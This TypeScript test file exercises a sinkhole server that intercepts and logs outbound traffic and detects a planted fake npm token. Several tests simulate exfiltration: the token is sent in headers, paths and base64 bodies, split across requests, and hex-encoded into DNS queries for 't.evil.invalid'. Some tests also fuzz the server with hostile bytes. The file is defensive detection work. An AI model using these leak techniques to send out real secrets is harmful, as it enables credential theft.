import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest, type RequestOptions, type Server } from 'node:http';
import { request as httpsRequest } from 'node:https';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { SinkholeRecord } from '../channels.ts';
import { issueLeaf, makeCa } from './certificates.ts';
import { SinkholeConfig } from './config.ts';
import { encodeName } from './dns-wire.ts';
import { type Sinkhole, startSinkhole } from './server.ts';

const value = 'npm_7Hq2ZxT9bLw4Kd8VnR5sYc1MfJ3gPa6Eu0Xo';
const ca = makeCa();
const folder = mkdtempSync(join(tmpdir(), 'sinkhole-'));
const socketPath = join(folder, 'mirror.sock');
let mirrorRequests: { url: string; headers: Record<string, unknown> }[] = [];
let mirror: Server;
let sinkhole: Sinkhole;
let records: SinkholeRecord[] = [];

const config = {
  run: 'r0',
  egress: 'sinkhole',
  ca,
  mirrors: [
    { host: '127.0.0.1', port: 4873, tls: false, socketPath },
    { host: '127.0.0.1', port: 4874, tls: true, socketPath, leaf: issueLeaf(ca, '127.0.0.1') },
    { host: '127.0.0.1', port: 4875, tls: false, socketPath: join(folder, 'absent.sock') },
  ],
  canaries: [{ id: 'c1', kind: 'npm_token', value }],
  identity: { user: 'u', fullName: 'U', email: 'u@x.example', organisation: 'o', packages: ['own-tools'] },
  geo: { ip: '203.0.113.9', country: 'DE', region: 'B', city: 'B', timeZone: 'UTC', languages: 'de' },
  planted: ['https://drop-1.invalid/x'],
};
const doors = [25, 8080, 8443, 4711, 4873, 4874, 4875].map((port) => ({ port, listen: 0 }));
const placement = { host: '127.0.0.1', doors, udp: [{ port: 5555, listen: 0 }], namesPort: 0 };

async function start(extra: object = {}): Promise<void> {
  const own: SinkholeRecord[] = [];
  records = own;
  const parsed = SinkholeConfig.parse({ ...config, ...extra });
  sinkhole = await startSinkhole(parsed, (line) => own.push(SinkholeRecord.parse(JSON.parse(line))), placement);
}

function doorOf(port: number): number {
  const door = sinkhole.doors.find((each) => each.port === port);
  if (door === undefined) throw new Error(`no door for ${port}`);
  return door.listen;
}

type Kind = SinkholeRecord['kind'];
type Of<K extends Kind> = Extract<SinkholeRecord, { kind: K }>;

function all<K extends Kind>(kind: K): Of<K>[] {
  return records.filter((record): record is Of<K> => record.kind === kind);
}

/** Polls until a record of the kind is there: records are written after the answer. */
async function first<K extends Kind>(kind: K, matches: (record: Of<K>) => boolean = () => true): Promise<Of<K>> {
  for (let turn = 0; turn < 1000; turn++) {
    const found = all(kind).find(matches);
    if (found !== undefined) return found;
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  throw new Error(`no ${kind} record among ${JSON.stringify(records)}`);
}

type Reply = { status: number; body: string; headers: Record<string, unknown> };

function send(
  port: number,
  options: RequestOptions & { ca?: string; servername?: string },
  body?: string | Buffer,
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const to = { host: '127.0.0.1', port: doorOf(port), agent: false as const, ...options };
    const sent = (options.ca === undefined ? httpRequest : httpsRequest)(to, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () =>
        resolve({
          status: response.statusCode!,
          body: Buffer.concat(chunks).toString('latin1'),
          headers: response.headers,
        }),
      );
    });
    sent.on('error', reject);
    sent.end(body);
  });
}

/** Sends bytes, optionally waits for an answer, ends. */
function talk(port: number, bytes: string | Buffer, options: { wait?: boolean } = {}): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(doorOf(port), '127.0.0.1');
    let heard = '';
    socket.on('data', (chunk) => {
      heard += chunk.toString('latin1');
      if (options.wait === true) socket.end();
    });
    socket.on('close', () => resolve(heard)).on('error', reject);
    socket.write(bytes);
    if (options.wait !== true) socket.end();
  });
}

beforeAll(async () => {
  mirror = createServer((request, response) => {
    mirrorRequests.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'content-type': 'application/json', etag: '"e1"' }).end('{"name":"left-pad"}');
  });
  await new Promise<void>((resolve) => mirror.listen(socketPath, resolve));
});
beforeEach(async () => {
  mirrorRequests = [];
  await start();
});
afterEach(() => sinkhole.close());
afterAll(() => {
  mirror.close();
  rmSync(folder, { recursive: true });
});

describe('HTTP', () => {
  test('a request is answered and recorded with digest, head and the canaries in each part', async () => {
    const body = JSON.stringify({ host: 'x', data: Buffer.from(`token=${value}`).toString('base64') });
    const headers = { 'x-auth': value, 'content-type': 'application/json' };
    const reply = await send(
      8080,
      { method: 'POST', path: `/u/${value}?q=${encodeURIComponent(value)}`, headers },
      body,
    );
    expect(reply.status).toBe(200);
    const record = await first('http');
    expect(record).toMatchObject({
      scheme: 'http',
      host: '127.0.0.1',
      ip: '127.0.0.1',
      port: 8080,
      method: 'POST',
      egress: 'sinkhole',
    });
    expect(record.bodyBytes).toBe(body.length);
    expect(Buffer.from(record.bodyHead, 'base64').toString()).toBe(body);
    expect(record.canaryHits.map(({ where, encoding }) => `${where} ${encoding}`)).toEqual(
      expect.arrayContaining(['path raw', 'query raw', 'header:x-auth raw', 'body base64']),
    );
    expect(record.response).toMatchObject({ profile: 'generic-200', status: 200, bytes: reply.body.length });
    const connection = await first('connection');
    expect(connection).toMatchObject({
      connection: record.connection,
      protocol: 'tcp',
      port: 8080,
      egress: 'sinkhole',
    });
    const close = await first('close');
    expect(close.bytesIn).toBeGreaterThan(body.length);
  });

  test('a value sent in parts over requests is found when the last part arrives', async () => {
    const parts = value.match(/.{1,9}/g)!;
    for (const [at, part] of parts.entries()) await send(8080, { path: `/p?i=${at}&d=${part}` });
    await first('http', ({ canaryHits }) => canaryHits.some(({ encoding }) => encoding === 'split'));
    expect(all('http').filter(({ canaryHits }) => canaryHits.length > 0)).toHaveLength(1);
  });

  test('a large body is hashed whole and kept in part', async () => {
    const body = Buffer.alloc(8_000_000, 'a');
    body.write(value, 7_000_000);
    await send(8080, { method: 'PUT', path: '/big' }, body);
    const record = await first('http');
    expect(record.bodyBytes).toBe(body.length);
    expect(Buffer.from(record.bodyHead, 'base64')).toHaveLength(2048);
    expect(record.canaryHits).toEqual([{ canary: 'c1', encoding: 'raw', where: 'body' }]);
  });

  test('a body over the limit is cut off and said to be', async () => {
    await sinkhole.close();
    await start({ limits: { bodyBytes: 1000 } });
    await expect(send(8080, { method: 'POST', path: '/' }, Buffer.alloc(5_000_000))).rejects.toThrow();
    expect((await first('limit')).what).toBe('body');
    expect((await first('http')).response.status).toBe(0);
  });

  test('a request that breaks off is recorded with what came', async () => {
    const socket = connect(doorOf(8080), '127.0.0.1');
    socket.write(`POST /u HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n\r\n${value}`);
    await first('connection');
    await new Promise((resolve) => setTimeout(resolve, 50));
    socket.destroy();
    const record = await first('http');
    expect(record.response.status).toBe(0);
    expect(record.canaryHits).toEqual([{ canary: 'c1', encoding: 'raw', where: 'body' }]);
  });

  test('several requests on one connection are recorded one by one', async () => {
    const one = 'GET /1 HTTP/1.1\r\nHost: x\r\n\r\n';
    await talk(
      8080,
      one + one.replace('/1', '/2') + one.replace('/1', '/3').replace('Host', 'Connection: close\r\nHost'),
    );
    await first('http', ({ path }) => path === '/3');
    expect(all('http').map(({ path }) => path)).toEqual(['/1', '/2', '/3']);
    expect(new Set(all('http').map(({ connection }) => connection)).size).toBe(1);
  });

  test('a client that closes its side right after the request is answered', async () => {
    expect(await talk(8080, 'GET /x.sh HTTP/1.0\r\n\r\n')).toContain("echo 'inert answer of run r0'");
    expect(await talk(4873, 'GET /left-pad HTTP/1.0\r\n\r\n')).toContain('left-pad');
  });

  test('what began like HTTP and is not is recorded as bytes', async () => {
    await talk(8080, `GET / HTTP/1.1\r\nbroken\0header ${value}\r\n\r\n`);
    expect((await first('raw')).canaryHits).toEqual([{ canary: 'c1', encoding: 'raw', where: 'raw' }]);
  });

  test('a tunnel is opened, and what runs inside names its target', async () => {
    const inner =
      'CONNECT deep.invalid:8080 HTTP/1.1\r\nHost: deep.invalid:8080\r\n\r\nGET /in HTTP/1.1\r\nConnection: close\r\nHost: x\r\n\r\n';
    await talk(8080, inner);
    const record = await first('http', ({ path }) => path === '/in');
    expect(record).toMatchObject({ host: 'deep.invalid', ip: '127.0.0.1' });
  });

  test('DNS over HTTPS is answered and recorded as a question', async () => {
    const question = Buffer.concat([
      Buffer.from('000101000001000000000000', 'hex'),
      encodeName('doh.invalid'),
      Buffer.from([0, 1, 0, 1]),
    ]);
    const reply = await send(8080, { path: `/dns-query?dns=${question.toString('base64url')}` });
    expect(reply.headers['content-type']).toBe('application/dns-message');
    expect(await first('dns')).toMatchObject({ name: 'doh.invalid', type: 'A', transport: 'https' });
  });
});

describe('TLS', () => {
  test('TLS on any port is ended with a certificate of the run for the name that was asked', async () => {
    const reply = await send(4711, { path: '/s.js', ca: ca.certPem, servername: 'cdn.invalid' });
    expect(reply.body).toBe("console.log('inert answer of run r0');\n");
    expect(await first('tls')).toMatchObject({ sni: 'cdn.invalid', decrypted: true });
    expect(await first('http')).toMatchObject({ scheme: 'https', sni: 'cdn.invalid', port: 4711 });
  });

  test('a client that trusts another authority is recorded once, as not decrypted, with its reason', async () => {
    await expect(send(8443, { path: '/', ca: makeCa().certPem, servername: 'pinned.invalid' })).rejects.toThrow();
    expect(await first('tls')).toMatchObject({ sni: 'pinned.invalid', decrypted: false });
    await first('close');
    expect(all('tls')).toHaveLength(1);
    expect(all('tls')[0]?.reason).toMatch(/\w/);
  });

  test('bytes inside TLS that are not HTTP are recorded', async () => {
    const socket = tlsConnect({ host: '127.0.0.1', port: doorOf(8443), ca: ca.certPem, servername: 'raw.invalid' });
    socket.end(`\0\x01${value}`);
    expect((await first('raw')).canaryHits).toHaveLength(1);
  });

  test('a handshake that is broken off is recorded as not decrypted', async () => {
    const socket = connect(doorOf(8443), '127.0.0.1');
    socket.write(Buffer.from('16030100050100000100', 'hex'));
    socket.end();
    expect((await first('tls')).decrypted).toBe(false);
  });
});

describe('mirror', () => {
  test('reads go on to the mirror without query, credentials or unknown headers', async () => {
    const headers = { authorization: 'Bearer abc', accept: 'application/json', 'x-data': 'secret' };
    const reply = await send(4873, { path: '/left-pad?leak=1', headers });
    expect(reply).toMatchObject({ status: 200, body: '{"name":"left-pad"}' });
    expect(mirrorRequests).toEqual([
      { url: '/left-pad', headers: { host: '127.0.0.1:4873', accept: 'application/json', connection: 'keep-alive' } },
    ]);
    expect(await first('http')).toMatchObject({
      egress: 'mirror',
      response: { profile: 'mirror', status: 200, bytes: 19 },
    });
    expect((await first('connection')).egress).toBe('mirror');
  });

  test('a mirror over TLS uses the certificate that was made for it', async () => {
    const reply = await send(4874, { path: '/left-pad', ca: ca.certPem });
    expect(reply.status).toBe(200);
    expect(await first('http')).toMatchObject({ scheme: 'https', egress: 'mirror' });
  });

  test('a publication is refused and never reaches the mirror', async () => {
    const attachment = Buffer.from(`x${value}`).toString('base64');
    const reply = await send(
      4873,
      { method: 'PUT', path: '/own-tools' },
      JSON.stringify({ _attachments: { a: attachment } }),
    );
    expect(reply.status).toBe(403);
    expect(mirrorRequests).toEqual([]);
    const record = await first('http');
    expect(record).toMatchObject({ egress: 'sinkhole', response: { profile: 'publish-refused' } });
    expect(record.canaryHits.map(({ encoding }) => encoding)).toContain('base64');
  });

  test('a read whose path carries a canary, or that asks for the account, never reaches the mirror', async () => {
    await send(4873, { path: `/${value}` });
    await send(4873, { path: '/-/whoami' });
    await send(4873, { path: '/own-tools' });
    expect(mirrorRequests).toEqual([]);
    await first('http', ({ path }) => path === '/own-tools');
    expect(all('http').map(({ response }) => response.profile)).toEqual([
      'generic-200',
      'registry-account',
      'registry-account',
    ]);
  });

  test('a mirror that is down answers 502', async () => {
    expect((await send(4875, { path: '/left-pad' })).status).toBe(502);
    expect((await first('http')).response).toMatchObject({ profile: 'mirror', status: 502 });
  });
});

describe('other protocols', () => {
  test('a web socket is opened and its messages are searched unmasked', async () => {
    const socket = new WebSocket(`ws://127.0.0.1:${doorOf(8080)}/live`);
    await new Promise((resolve) => socket.addEventListener('open', resolve));
    socket.send(JSON.stringify({ t: value }));
    socket.close();
    const record = await first('raw');
    expect(record.canaryHits).toEqual([{ canary: 'c1', encoding: 'raw', where: 'raw' }]);
    expect(Buffer.from(record.head, 'base64').toString()).toContain('{"t":');
    expect(await first('http')).toMatchObject({ response: { status: 101, profile: 'websocket' } });
  });

  test('raw bytes are recorded, and a mail server speaks first', async () => {
    await talk(4711, Buffer.from(`\x01\x02${Buffer.from(value).toString('hex')}`));
    expect((await first('raw')).canaryHits).toEqual([{ canary: 'c1', encoding: 'hex', where: 'raw' }]);
    expect(await talk(25, '', { wait: true })).toMatch(/^220 /);
  });

  test('a connection still open at the end is recorded', async () => {
    const socket = connect(doorOf(4711), '127.0.0.1');
    socket.on('error', () => undefined);
    socket.write(`\x01idle shell ${value}`);
    await first('connection');
    await new Promise((resolve) => setTimeout(resolve, 50));
    await sinkhole.close();
    expect((await first('raw')).canaryHits).toHaveLength(1);
    expect(all('close')).toHaveLength(1);
  });

  test('datagrams of one client port are one flow', async () => {
    const socket = createSocket('udp4');
    const port = sinkhole.udpDoors[0]!.listen;
    for (const part of [value.slice(0, 20), value.slice(20)]) {
      await new Promise((resolve) => socket.send(part, port, '127.0.0.1', resolve));
    }
    await first('connection', ({ protocol }) => protocol === 'udp');
    await new Promise((resolve) => setTimeout(resolve, 50));
    await sinkhole.close();
    socket.close();
    expect(await first('raw')).toMatchObject({ bytes: value.length, canaryHits: [{ encoding: 'raw' }] });
    expect(await first('connection')).toMatchObject({ protocol: 'udp', port: 5555 });
  });

  test('hostile bytes on any door leave the sinkhole standing', async () => {
    const starts = [
      'GET / HTTP/1.1\r\n',
      'POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n',
      '\x16\x03\x01\x00\x40',
    ];
    const attempts = Array.from({ length: 90 }, (_, turn) => {
      const noise = Buffer.from(Array.from({ length: turn * 5 }, (_each, at) => (at * 37 + turn * 11) & 0xff));
      const bytes = Buffer.concat([Buffer.from(starts[turn % 4] ?? '', 'latin1'), noise]);
      const port = [8080, 8443, 4711, 25, 4873][turn % 5]!;
      // A reset is as good an end as any.
      return talk(port, bytes).catch((error: unknown) => String(error));
    });
    await Promise.all(attempts);
    expect((await send(8080, { path: '/' })).status).toBe(200);
    expect(all('close').length).toBeGreaterThanOrEqual(80);
  });

  test('connections over the limit are reset, and the flood costs one record', async () => {
    await sinkhole.close();
    await start({ limits: { connections: 3 } });
    const sockets = Array.from({ length: 20 }, () => connect(doorOf(4711), '127.0.0.1').on('error', () => undefined));
    expect((await first('limit')).what).toBe('connections');
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(all('connection').length).toBeLessThanOrEqual(3);
    expect(all('limit')).toHaveLength(1);
    for (const socket of sockets) socket.destroy();
  });

  test('records over the limit are counted, not written', async () => {
    await sinkhole.close();
    await start({ limits: { records: 5 } });
    for (let turn = 0; turn < 5; turn++) await send(8080, { path: '/' });
    await sinkhole.close();
    expect(records).toHaveLength(6);
    expect(all('limit')[0]?.text).toMatch(/\d+ records beyond the first 5/);
  });
});

describe('names', () => {
  const resolver = () => {
    const own = new Resolver({ timeout: 2000, tries: 1 });
    own.setServers([`127.0.0.1:${sinkhole.namesPort}`]);
    return own;
  };

  test('every kind of question has a sensible answer', async () => {
    const names = resolver();
    const [address = ''] = await names.resolve4('collect.invalid');
    expect(address).toMatch(/^198\.1[89]\./);
    expect((await names.resolve6('collect.invalid'))[0]).toMatch(/^fd5a:/);
    expect(await names.resolveTxt('collect.invalid')).toEqual([['v=spf1 -all'], ['url=https://drop-1.invalid/x']]);
    expect(await names.resolveMx('collect.invalid')).toMatchObject([
      { priority: 10, exchange: 'mail.collect.invalid' },
    ]);
    expect((await names.resolveSrv('_x._tcp.collect.invalid'))[0]).toMatchObject({
      name: 'collect.invalid',
      port: 443,
    });
    expect((await names.resolveSoa('collect.invalid')).nsname).toBe('ns1.collect.invalid');
    expect(await names.reverse(address)).toEqual(['collect.invalid']);
    expect((await names.resolveAny('collect.invalid')).length).toBeGreaterThan(2);
    expect(all('dns')[0]).toMatchObject({
      name: 'collect.invalid',
      type: 'A',
      rcode: 'NOERROR',
      address,
      transport: 'udp',
    });
  });

  test('a name that only a local network could know does not exist', async () => {
    await expect(resolver().resolve4('printer')).rejects.toMatchObject({ code: 'ENOTFOUND' });
    await expect(resolver().resolve4('nas.local')).rejects.toMatchObject({ code: 'ENOTFOUND' });
    expect(all('dns').map(({ rcode }) => rcode)).toEqual(['NXDOMAIN', 'NXDOMAIN']);
  });

  test('a value sent in labels over several questions is found', async () => {
    const names = resolver();
    const parts = Buffer.from(value)
      .toString('hex')
      .match(/.{1,20}/g)!;
    for (const [at, part] of parts.entries()) await names.resolve4(`${part}.${at}.t.evil.invalid`);
    expect(all('dns').flatMap(({ canaryHits }) => canaryHits)).toContainEqual({
      canary: 'c1',
      encoding: 'split+hex',
      where: 'dns',
    });
  });

  test('hostile datagrams leave the name server standing', async () => {
    const socket = createSocket('udp4');
    for (let turn = 0; turn < 200; turn++) {
      const bytes = Buffer.from(Array.from({ length: turn }, (_, at) => (at * 31 + turn * 7) & 0xff));
      await new Promise((resolve) => socket.send(bytes, sinkhole.namesPort, '127.0.0.1', resolve));
    }
    socket.close();
    expect(await resolver().resolve4('still.invalid')).toHaveLength(1);
  });
});
